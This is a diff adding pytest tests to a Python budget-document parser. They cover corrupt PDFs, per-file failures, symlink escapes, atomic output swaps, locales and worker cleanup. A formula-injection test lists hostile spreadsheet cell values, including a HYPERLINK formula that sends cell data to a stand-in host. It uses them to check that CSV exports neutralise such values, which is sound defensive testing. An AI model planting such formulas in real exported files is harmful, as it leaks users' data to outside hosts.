@@ -257,3 +257,309 @@ def test_limits_are_validated(kwargs):
 
     with pytest.raises(ParameterError, match=next(iter(kwargs))):
         Limits(**kwargs)
+
+
+# --- 4. every failure of one file is that file's failure ----------------------------------------------------
+
+
+def scrambled_pdf(path: Path) -> Path:
+    """The 2024 fixture PDF with every cross-reference offset but the first pointing at random bytes."""
+    import random
+    import re
+
+    from conftest import make_pdf_2024
+
+    make_pdf_2024(path)
+    data = path.read_bytes()
+    table = re.search(rb"xref\s+0 (\d+)\s+", data)
+    start, n = table.end(), int(table.group(1))
+    entries, rng = bytearray(data[start:start + 20 * n]), random.Random(27)
+    for k in range(1, n):
+        entries[20 * k:20 * k + 10] = b"%010d" % rng.randrange(len(data))
+    path.write_bytes(data[:start] + bytes(entries) + data[start + 20 * n:])
+    return path
+
+
+def test_a_pdf_with_scrambled_xref_is_skipped_and_the_batch_goes_on(tmp_path):
+    from budgetkit.batch import parse_files
+
+    files = [*seed_year(tmp_path / "raw/2025", ("a.txt",)), scrambled_pdf(tmp_path / "raw/2025/乱.pdf")]
+    tables = parse_files(files, 2025, jobs=1, progress=None)
+    assert tables.counts()["projects"] == 11
+    [skipped] = tables.skipped
+    assert skipped.path == files[1] and skipped.kind == "IndexError" and "乱.pdf" in skipped.error
+    result = write_dataset(files, tmp_path / "dataset", 2025, jobs=1, progress=None)
+    assert (result.parsed, [s.kind for s in result.skipped]) == (1, ["IndexError"])
+
+
+@pytest.mark.parametrize("error", [
+    pytest.param(MemoryError(), id="memory-error"),
+    pytest.param(RecursionError("maximum recursion depth exceeded"), id="recursion-error"),
+    pytest.param(KeyError("项目名称"), id="key-error-bug"),
+])
+def test_any_exception_of_one_file_is_that_files_failure(tmp_path, monkeypatch, error):
+    import budgetkit.parse
+    from budgetkit.batch import parse_files
+
+    files = seed_year(tmp_path / "raw/2025", ("a.txt", "坏.txt"))
+    real = budgetkit.parse.file_records
+
+    def failing(path, **kwargs):
+        if path.name == "坏.txt":
+            raise error
+        return real(path, **kwargs)
+
+    monkeypatch.setattr(budgetkit.parse, "file_records", failing)
+    tables = parse_files(files, 2025, jobs=1, progress=None)
+    assert tables.counts()["projects"] == 11
+    [skipped] = tables.skipped
+    assert skipped.kind == type(error).__name__ and skipped.error.startswith(str(files[1]))
+
+
+def scratch_project(root: Path, years: dict[str, tuple[str, ...]]) -> Path:
+    root.mkdir(parents=True, exist_ok=True)
+    (root / "pyproject.toml").write_text("[project]\nname = 'scratch'\n")
+    for year, names in years.items():
+        seed_year(root / "data/raw" / year, names)
+    return root
+
+
+@pytest.mark.parametrize("folder", [
+    pytest.param("1800", id="year-1800"),
+    pytest.param("9999", id="year-9999"),
+    pytest.param("0", id="year-0"),
+])
+def test_a_folder_that_is_no_budget_year_is_skipped_with_a_warning(tmp_path, caplog, capsys, folder):
+    from budgetkit.paths import project_paths
+
+    root = scratch_project(tmp_path, {"2025": ("a.txt",), folder: ("a.txt",)})
+    assert project_paths(root).years() == [2025]
+    assert any(folder in r.getMessage() and "no budget year" in r.getMessage() for r in caplog.records)
+    assert main(["-q", "dataset", "--root", str(root), "--jobs", "1"]) == 0
+    assert capsys.readouterr().out.startswith("2025: 1 file(s) parsed")
+
+
+@pytest.mark.parametrize("formats", [
+    pytest.param(("xlsx", "docx"), id="xlsx-and-docx"),
+    pytest.param(("html", "xlsx"), id="html-and-xlsx"),
+    pytest.param(("docx", "html"), id="docx-and-html"),
+])
+def test_one_document_in_two_formats_is_read_once(tmp_path, capsys, formats):
+    import render
+    from budgetkit.paths import project_paths
+
+    root = scratch_project(tmp_path, {})
+    folder = root / "data/raw/2025"
+    folder.mkdir(parents=True)
+    written = [render.RENDERERS[f](render.seed_key(), folder / f"附件{render.SUFFIX[f]}") for f in formats]
+    paths = project_paths(root)
+    assert len(paths.disclosures(2025)) == 1
+    [(duplicate, kept)] = paths.duplicates(2025).items()
+    assert {duplicate, kept} == set(written)
+    assert main(["-q", "dataset", "--root", str(root), "--jobs", "1"]) == 0
+    captured = capsys.readouterr()
+    assert "1 file(s) parsed" in captured.out and f"duplicate data/raw/2025/{duplicate.name}" in captured.err
+    assert connect(root).sql("SELECT count(*) FROM projects").fetchall() == [(11,)]
+
+
+# --- 6. links out of the tree ---------------------------------------------------------------------------------
+
+
+def test_a_link_to_a_file_outside_the_tree_is_refused(tmp_path, caplog):
+    from budgetkit.paths import project_paths
+
+    root = scratch_project(tmp_path / "project", {"2025": ("a.txt",)})
+    secret = tmp_path / "elsewhere/secret.txt"
+    secret.parent.mkdir()
+    secret.write_text(SEED.read_text(encoding="utf-8").replace("职工困难帮扶资金项目", "机密项目"), encoding="utf-8")
+    (root / "data/raw/2025/link.txt").symlink_to(secret)
+    (root / "data/raw/2025/inside.txt").symlink_to(root / "data/raw/2025/a.txt")
+    names = [p.name for p in project_paths(root).disclosures(2025)]
+    assert names == ["a.txt", "inside.txt"]
+    [warning] = [r.getMessage() for r in caplog.records if "link.txt" in r.getMessage()]
+    assert "outside" in warning and "\n" not in warning
+
+
+# --- 5. formula injection -----------------------------------------------------------------------------------
+
+FORMULAS = ['=HYPERLINK("http://x.invalid/?q="&A1,"点击")', "=116人", "=100%", "@SUM(A1:A9)", "-5%", "+86 951",
+            "\t=1+1", "\r=1+1"]
+
+
+@pytest.mark.parametrize("rows", [
+    pytest.param(3, id="short-table-data-uri"),
+    pytest.param(400, id="long-table-download-file"),
+])
+def test_report_csv_downloads_run_no_formula(tmp_path, rows):
+    import base64
+    import csv
+    import io
+    import re
+
+    import pandas as pd
+
+    from budgetkit.csvsafe import FORMULA_START
+    from budgetkit.report.display import ReadingTable
+
+    values = (FORMULAS * rows)[:max(rows, len(FORMULAS))]
+    frame = pd.DataFrame({"indicator": values, "value": values, "total_wan": [-1.5] * len(values)})
+    page = ReadingTable(frame, "indicators", name="t", downloads=tmp_path / "csv").to_html()
+    found = re.search(r'href="data:text/csv;charset=utf-8;base64,([^"]+)"', page)
+    raw = (base64.b64decode(found.group(1)).decode("utf-8") if found
+           else (tmp_path / "csv/t.csv").read_text(encoding="utf-8"))
+    cells = [c for row in list(csv.reader(io.StringIO(raw.lstrip("\ufeff"), newline="")))[1:] for c in row]
+    texts = [c for c in cells if c != "-1.5"]
+    assert texts and not [c for c in texts if c.startswith(FORMULA_START)]
+    assert {c[1:] for c in texts} == set(values)
+
+
+# --- 7. a year swapped whole or not at all --------------------------------------------------------------------
+
+
+def fake_year(base, version: str) -> None:
+    """One file per output folder of 2025 under ``base`` (a ProjectPaths), and a manifest."""
+    import json
+
+    for kind in ("processed", "figures", "reports"):
+        folder = getattr(base, kind) / "2025"
+        folder.mkdir(parents=True, exist_ok=True)
+        (folder / f"{kind}.txt").write_text(version, encoding="utf-8")
+    (base.reports / "2025/run_manifest.json").write_text(json.dumps({"status": "ok", "version": version}))
+
+
+@pytest.mark.parametrize("how", [
+    pytest.param("reports-not-writable", id="reports-not-writable"),
+    pytest.param("reports-move-fails", id="reports-move-fails-after-the-others"),
+    pytest.param("disk-full-on-figures", id="disk-full-on-figures"),
+])
+def test_a_swap_that_cannot_finish_leaves_the_old_year_whole(tmp_path, monkeypatch, how):
+    import errno
+    import json
+    import os
+
+    import budgetkit.stage as stage_module
+    from budgetkit.paths import ProjectPaths
+    from budgetkit.stage import Stage, SwapError, build_lock
+
+    paths = ProjectPaths(tmp_path)
+    (tmp_path / "data/raw/2025").mkdir(parents=True)
+    fake_year(paths, "old")
+    real_replace, real_writable = os.replace, stage_module._writable
+
+    def failing_replace(src, dst):
+        moved = {os.path.relpath(src, tmp_path), os.path.relpath(dst, tmp_path)}  # a year folder in or out
+        if how == "reports-move-fails" and "reports/2025" in moved:
+            raise PermissionError(errno.EACCES, "Permission denied", dst)
+        staged_figures = f"stage-2025-{os.getpid()}/figures/2025"
+        if how == "disk-full-on-figures" and os.path.relpath(src, tmp_path).endswith(staged_figures):
+            raise OSError(errno.ENOSPC, "No space left on device", dst)
+        return real_replace(src, dst)
+
+    with build_lock(paths):
+        stage = Stage.create(paths, "2025")
+        fake_year(stage.paths, "new")
+        monkeypatch.setattr(os, "replace", failing_replace)
+        if how == "reports-not-writable":
+            monkeypatch.setattr(stage_module, "_writable", lambda f: real_writable(f) and f != paths.reports)
+        with pytest.raises(SwapError, match="old outputs of 2025 are kept whole"):
+            stage.swap(["processed", "figures", "reports"], "2025")
+        monkeypatch.setattr(os, "replace", real_replace)
+        stage.remove()
+    versions = {(getattr(paths, k) / "2025" / f"{k}.txt").read_text(encoding="utf-8")
+                for k in ("processed", "figures", "reports")}
+    assert versions == {"old"}
+    assert json.loads((paths.reports / "2025/run_manifest.json").read_text()) == {"status": "ok", "version": "old"}
+    assert not list(paths.state.glob("swap-*.json")), "a journal left would swap the new outputs in later"
+
+
+# --- 8. any locale, workers that die with their parent, one line for what stops a run ------------------------
+
+
+@pytest.fixture(scope="module")
+def gb18030_locale(tmp_path_factory):
+    """A zh_CN.GB18030 locale compiled into a temporary folder (LOCPATH), or a skip saying why not."""
+    import subprocess
+
+    folder = tmp_path_factory.mktemp("locale")
+    try:
+        done = subprocess.run(["localedef", "-i", "zh_CN", "-f", "GB18030", str(folder / "zh_CN.GB18030")],
+                              capture_output=True, text=True, timeout=120)
+    except (OSError, subprocess.TimeoutExpired) as err:
+        pytest.skip(f"no localedef to make a GB18030 locale: {err}")
+    if not (folder / "zh_CN.GB18030").is_dir():
+        pytest.skip(f"localedef could not make zh_CN.GB18030: {done.stderr.strip()[:200]}")
+    return folder
+
+
+@pytest.mark.parametrize("command", [
+    pytest.param("parse", id="parse"),
+    pytest.param("dataset", id="dataset"),
+])
+def test_utf8_chinese_file_names_under_a_gb18030_locale(tmp_path, gb18030_locale, command):
+    import os
+    import subprocess
+    import sys
+
+    import pandas as pd
+
+    root = scratch_project(tmp_path, {"2025": ("宁夏总工会 绩效目标.txt",)})
+    env = dict(os.environ, LOCPATH=str(gb18030_locale), LC_ALL="zh_CN.GB18030", PYTHONUTF8="0")
+    env.pop("PYTHONIOENCODING", None)
+    args = (["parse", str(root / "data/raw/2025/宁夏总工会 绩效目标.txt"), "--out", str(tmp_path / "out")]
+            if command == "parse" else ["dataset", "--root", str(root), "--jobs", "1"])
+    done = subprocess.run([sys.executable, "-m", "budgetkit", "-q", *args], env=env, capture_output=True,
+                          timeout=300)
+    assert b"Traceback" not in done.stderr, done.stderr.decode("gb18030", "replace")[-800:]
+    assert done.returncode == 0
+    if command == "parse":
+        names = pd.read_parquet(tmp_path / "out/documents.parquet")["source_file"].tolist()
+    else:
+        names = connect(root).sql("SELECT source_file FROM documents").df()["source_file"].tolist()
+    assert names == ["宁夏总工会 绩效目标.txt"]
+
+
+def test_workers_die_with_a_killed_dataset_run(tmp_path):
+    import signal
+    import subprocess
+    import sys
+    import time
+
+    psutil = pytest.importorskip("psutil")
+    root = scratch_project(tmp_path, {"2025": tuple(f"附件{k:02d}.txt" for k in range(40))})
+    main_proc = subprocess.Popen([sys.executable, "-m", "budgetkit", "-q", "dataset", "--root", str(root),
+                                  "--jobs", "2"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+    try:
+        deadline, family = time.monotonic() + 120, []
+        while time.monotonic() < deadline and main_proc.poll() is None:
+            family = psutil.Process(main_proc.pid).children(recursive=True)
+            if len(family) >= 3:  # the fork server and two workers
+                break
+            time.sleep(0.2)
+        assert len(family) >= 3, "the workers never started"
+        main_proc.send_signal(signal.SIGKILL)
+        main_proc.wait()
+        gone, alive = psutil.wait_procs(family, timeout=15)
+        assert not [p for p in alive if p.status() != psutil.STATUS_ZOMBIE], "workers outlived their parent"
+    finally:
+        for p in psutil.Process().children(recursive=True):
+            if p.pid == main_proc.pid or p in family:
+                p.kill()
+
+
+@pytest.mark.parametrize(("error", "words", "status"), [
+    pytest.param(OSError(30, "Read-only file system", "data/processed/dataset"), "Read-only file system", 2,
+                 id="read-only-processed"),
+    pytest.param(OSError(28, "No space left on device", "data/processed/dataset"), "No space left on device", 2,
+                 id="disk-full"),
+    pytest.param(KeyboardInterrupt(), "interrupted", 130, id="ctrl-c"),
+])
+def test_what_stops_a_dataset_run_ends_in_one_line(tmp_path, monkeypatch, capsys, error, words, status):
+    root = scratch_project(tmp_path, {"2025": ("a.txt",)})
+
+    def failing(*args, **kwargs):
+        raise error
+
+    monkeypatch.setattr(dataset_module, "_write_parquet", failing)
+    assert main(["-q", "dataset", "--root", str(root), "--jobs", "1"]) == status
+    err = capsys.readouterr().err.strip()
+    assert words in err and "\n" not in err and "Traceback" not in err
